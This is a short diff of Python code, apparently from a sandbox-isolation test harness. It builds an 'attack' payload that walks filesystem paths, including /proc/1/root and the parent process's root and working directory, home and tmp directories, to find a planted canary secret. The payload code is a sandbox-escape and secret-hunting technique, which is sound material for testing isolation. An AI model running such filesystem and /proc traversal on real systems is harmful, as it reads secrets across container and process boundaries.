@@ -983,7 +983,7 @@ SEARCH = """
 SECRET = b"CANARY-" + b"SECRET"
 import glob, os
 def files():
-    for root in ("/", "/proc/1/root", "/proc/self/root", f"/proc/{os.getppid()}/root", f"/proc/{os.getppid()}/cwd"):
+    for root in ("", "/proc/1/root", f"/proc/{os.getppid()}/root", f"/proc/{os.getppid()}/cwd"):
         for pattern in ("*", "*/*", "tmp/*/*", "tmp/*/*/*", "tmp/*/*/*/*", "root/*", "home/*/*", "srv/*", "run/*"):
             yield from glob.glob(f"{root}/{pattern}")
 def read(path):
@@ -1001,6 +1001,8 @@ def read_the_key():
     return (
         SEARCH
         + """
+import functools
+@functools.cache  # once for all cases: there may be many files
 def attack():
     own = ("/lib", "/usr", "/sys")
     for path in files():
